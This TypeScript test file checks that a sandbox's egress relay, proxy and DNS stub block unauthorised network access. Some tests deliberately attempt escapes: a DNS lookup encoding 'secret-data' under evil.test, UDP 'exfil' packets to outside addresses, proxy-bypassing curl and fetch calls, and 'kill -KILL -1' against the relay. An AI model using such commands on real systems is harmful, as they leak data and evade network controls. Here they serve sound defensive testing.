/**
 * Egress through the real kernel sandbox (issue 4): real clients inside `warden-helper`'s network
 * namespace reach the host only through the relay -> Warden's proxy / DNS stub. Host-side
 * listeners on 127.0.0.x stand in for the internet and prove that nothing else arrived.
 */
import assert from 'node:assert/strict';
import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import { once } from 'node:events';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import type { DnsAuditRecord, EgressAuditRecord } from '../../src/egress/index.js';
import { dnsResolver } from '../../src/egress/resolve.js';
import { startEgress, type Egress } from '../../src/session/egress.js';
import { cleanup, defaultSpec, makeCtx, runSandboxed, sh, type Ctx } from '../sandbox/harness.js';
import { compile, origin, witness, type Witness } from './helpers.js';

/** A host-side "internet" DNS server that answers nothing and records every query name. */
async function fakeDns(host: string): Promise<{ port: number; names: string[]; sock: UdpSocket }> {
  const sock = createSocket('udp4');
  const names: string[] = [];
  sock.on('message', (m: Buffer) => {
    const labels: string[] = [];
    for (let o = 12; o < m.length && m[o]! > 0 && labels.length < 64; o += m[o]! + 1) labels.push(m.subarray(o + 1, o + 1 + m[o]!).toString('latin1'));
    names.push(labels.join('.').toLowerCase());
  });
  sock.bind(0, host);
  await once(sock, 'listening');
  after(() => sock.close());
  return { port: sock.address().port, names, sock };
}

// Top level: the helpers register their own `after` hooks (inside a `before` they would run at once).
const c: Ctx = makeCtx();
const allowed = await origin('127.0.0.2');
const deniedW: Witness = await witness('127.0.0.3');
const rawW: Witness = await witness('127.0.0.2');
const dns = await fakeDns('127.0.0.5');
// An upstream that sends part of a body, then aborts the connection (RST).
const resetter: Witness = await witness('127.0.0.6', (sock) => {
  sock.write('partial-body');
  setTimeout(() => sock.resetAndDestroy(), 150);
});
const udpWitness: UdpSocket = createSocket('udp4');
let udpGot = 0;
udpWitness.on('message', () => udpGot++);
udpWitness.bind(0, '127.0.0.2');
await once(udpWitness, 'listening');
const records: Array<EgressAuditRecord | DnsAuditRecord> = [];
const policy = compile({
  network: {
    allow: ['allowed.test', 'dnsonly.test', 'rst.test'],
    deny: ['denied.test'],
    hosts: { 'allowed.test': '127.0.0.2', 'denied.test': '127.0.0.3', 'rst.test': '127.0.0.6' },
  },
});
const eg: Egress = await startEgress({
  policy,
  runDir: join(c.root, 'run'),
  session: 'sess-1',
  audit: (r) => records.push(r),
  resolver: dnsResolver({ servers: [`127.0.0.5:${dns.port}`], timeoutMs: 300, tries: 1 }),
});
after(async () => {
  await eg.close();
  udpWitness.close();
  cleanup(c);
});

describe('egress from inside the sandbox', () => {
  const inside = (script: string, timeoutMs = 20_000) => runSandboxed(defaultSpec(c, sh(script), { egress: eg.spec }), { timeoutMs });

  it('curl through the proxy variables reaches an allowed name; the relay is reported as a layer', async () => {
    const r = await inside(`curl -sS --max-time 10 http://allowed.test:${allowed.port}/via-proxy`);
    assert.equal(r.result.exitCode, 0, r.stderr);
    assert.equal(r.stdout, `hello 127.0.0.2 GET /via-proxy`);
    assert.ok(r.result.layers.active.includes('egress'), r.result.layers.active.join(','));
    assert.ok(records.some((x) => x.type === 'egress' && x.phase === 'end' && (x as EgressAuditRecord).host === 'allowed.test'));
  });

  it('SOCKS5 (socks5h) on the same relay port works too', async () => {
    const r = await inside(`curl -sS --max-time 10 --proxy socks5h://127.0.0.1:3128 http://allowed.test:${allowed.port}/socks`);
    assert.equal(r.result.exitCode, 0, r.stderr);
    assert.equal(r.stdout, `hello 127.0.0.2 GET /socks`);
  });

  it('a denied name gets a 403 naming the rule, and its host received nothing', async () => {
    const r = await inside(`curl -sS --max-time 10 -D - http://denied.test:${deniedW.port}/`);
    assert.equal(r.result.exitCode, 0, r.stderr);
    assert.match(r.stdout, /^HTTP\/1\.1 403/);
    assert.match(r.stdout, /X-Warden-Rule: network\.deny\[0\]/i);
    assert.equal(deniedW.connections, 0);
  });

  it('clients ignoring the proxy variables fail fast and nothing arrives (curl --noproxy, node fetch)', async () => {
    const before = allowed.requests.length;
    const t0 = Date.now();
    const r = await inside(
      `curl -sS --noproxy '*' --max-time 10 http://127.0.0.2:${rawW.port}/ ; echo "curl=$?"; ` +
        `curl -sS --noproxy '*' --max-time 10 http://allowed.test:${allowed.port}/direct ; echo "curl2=$?"; ` +
        `node -e "fetch('http://127.0.0.2:${rawW.port}/').then(() => console.log('fetch=ok'), (e) => console.log('fetch=' + (e.cause && e.cause.code)))"`,
    );
    const ms = Date.now() - t0;
    assert.equal(r.result.exitCode, 0, r.stderr);
    assert.match(r.stdout, /curl=7\b/); // couldn't connect
    assert.match(r.stdout, /curl2=7\b/);
    assert.match(r.stdout, /fetch=(ECONNREFUSED|EACCES|ENETUNREACH|EPERM)/);
    assert.ok(ms < 6000, `took ${ms} ms`); // three clients plus node start-up; each fails at once
    assert.equal(rawW.connections, 0);
    assert.equal(allowed.requests.length, before);
  });

  it('a single client ignoring the proxy fails in under 2 s', async () => {
    const r = await inside(`s=$(date +%s%N); curl -s --noproxy '*' --max-time 30 http://127.0.0.2:${rawW.port}/; e=$?; echo "$e $(( ($(date +%s%N) - s) / 1000000 ))"`);
    const [code, ms] = r.stdout.trim().split(' ').map(Number);
    assert.equal(code, 7, r.stdout + r.stderr);
    assert.ok(ms! < 2000, `${ms} ms`);
    assert.equal(rawW.connections, 0);
  });

  it('an upstream that aborts a tunnel (RST) aborts it for the client too, never a clean EOF', async () => {
    // A FIN here would let a truncated transfer look complete to the client.
    const r = await inside(`python3 - <<'EOF'
import socket
s = socket.create_connection(('127.0.0.1', 3128), timeout=10)
s.sendall(b'CONNECT rst.test:${resetter.port} HTTP/1.1\\r\\nHost: rst.test:${resetter.port}\\r\\n\\r\\n')
buf = b''
try:
    while True:
        d = s.recv(65536)
        if not d:
            print('eof'); break
        buf += d
except ConnectionResetError:
    print('reset')
print('body', b'partial-body' in buf)
EOF`);
    assert.equal(r.result.exitCode, 0, r.stderr);
    assert.match(r.stdout, /^reset$/m, r.stdout);
    assert.match(r.stdout, /^body True$/m, 'the bytes before the reset arrived');
    assert.equal(resetter.connections, 1);
  });

  it('python3 urllib through the proxy variables', async () => {
    const r = await inside(`python3 -c "import urllib.request as u; print(u.urlopen('http://allowed.test:${allowed.port}/py', timeout=10).read().decode())"`);
    assert.equal(r.result.exitCode, 0, r.stderr);
    assert.equal(r.stdout.trim(), 'hello 127.0.0.2 GET /py');
  });

  it('DNS: allowed names resolve via the stub; denied names do not, and no query for them left', async () => {
    const r = await inside(
      'cat /etc/resolv.conf; getent hosts allowed.test; echo "a=$?"; getent hosts denied.test; echo "d=$?"; ' +
        'getent hosts secret-data-4242.evil.test; echo "e=$?"; ' +
        `python3 -c "import socket; print('py', socket.gethostbyname('allowed.test'))"; ` +
        'getent hosts dnsonly.test; echo "o=$?"',
    );
    assert.equal(r.result.exitCode, 0, r.stderr);
    assert.match(r.stdout, /^nameserver 127\.0\.0\.1$/m);
    assert.match(r.stdout, /^127\.0\.0\.2\s+allowed\.test$/m);
    assert.match(r.stdout, /^a=0$/m);
    assert.match(r.stdout, /^d=2$/m);
    assert.match(r.stdout, /^e=2$/m);
    assert.match(r.stdout, /^py 127\.0\.0\.2$/m);
    // Control: an allowed name without a hosts entry is looked up upstream (so the fake server works)...
    assert.ok(dns.names.includes('dnsonly.test'), JSON.stringify(dns.names));
    // ...and the denied ones never were.
    assert.ok(!dns.names.some((n) => n.includes('denied') || n.includes('secret-data') || n.includes('evil')), JSON.stringify(dns.names));
    assert.ok(records.some((x) => x.type === 'dns' && JSON.stringify(x).includes('denied.test')));
  });

  it('DNS over TCP to the stub works too', async () => {
    const r = await inside(`python3 -c "
import socket, struct
q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + b'\\x07allowed\\x04test\\x00' + struct.pack('>HH', 1, 1)
s = socket.create_connection(('127.0.0.1', 53), timeout=5)
s.sendall(struct.pack('>H', len(q)) + q)
n = struct.unpack('>H', s.recv(2))[0]
a = b''
while len(a) < n: a += s.recv(n - len(a))
print('id', hex(struct.unpack('>H', a[:2])[0]), 'rcode', a[3] & 15, 'ip', socket.inet_ntoa(a[-4:]))
"`);
    assert.equal(r.result.exitCode, 0, r.stderr);
    assert.equal(r.stdout.trim(), 'id 0x1234 rcode 0 ip 127.0.0.2');
  });

  it('UDP to anything but 127.0.0.1:53 goes nowhere', async () => {
    const port = udpWitness.address().port;
    const r = await inside(`python3 -c "
import socket
for dst in [('127.0.0.2', ${port}), ('8.8.8.8', 53), ('127.0.0.5', ${dns.port}), ('127.0.0.1', 5353)]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.sendto(b'exfil', dst); print('sent', dst[0])
    except OSError as e:
        print('err', dst[0], e.errno)
"`);
    assert.equal(r.result.exitCode, 0, r.stderr);
    assert.match(r.stdout, /err 8\.8\.8\.8 101/); // ENETUNREACH: no route out
    await new Promise((res) => setTimeout(res, 200));
    assert.equal(udpGot, 0);
    assert.ok(!dns.names.some((n) => n === '' || n.includes('exfil')));
  });

  it('the sandboxed tree cannot kill the relay (kill -KILL -1), and it is not in its /proc', async () => {
    const r = await inside(`kill -KILL -1 2>/dev/null; sleep 0.2; ls /proc | grep -c '^[0-9]'; curl -sS --max-time 10 http://allowed.test:${allowed.port}/after-kill`);
    assert.equal(r.result.exitCode, 0, r.stderr);
    assert.match(r.stdout, /hello 127\.0\.0\.2 GET \/after-kill$/);
    assert.ok(Number(r.stdout.split('\n')[0]) <= 4, r.stdout);
  });

  it('the sockets are not inside the sandbox, and are 0600 on the host', async () => {
    const { statSync } = await import('node:fs');
    assert.equal(statSync(eg.proxySocket).mode & 0o777, 0o600);
    assert.equal(statSync(eg.dnsSocket).mode & 0o777, 0o600);
    const r = await inside(`test -e ${eg.proxySocket} && echo visible || echo hidden`);
    assert.equal(r.stdout.trim(), 'hidden');
  });

  it('a proxy socket the relay cannot reach: each connection fails fast (no hang)', async () => {
    const r = await runSandboxed(defaultSpec(c, sh(`curl -sS --max-time 10 http://allowed.test:${allowed.port}/; echo "rc=$?"`), {
      egress: { ...eg.spec, proxySocket: join(c.root, 'nonexistent.sock') },
    }));
    assert.equal(r.result.exitCode, 0, r.stderr);
    assert.match(r.stdout, /rc=(52|56|7)\b/);
    assert.ok(existsSync(eg.proxySocket));
  });
});
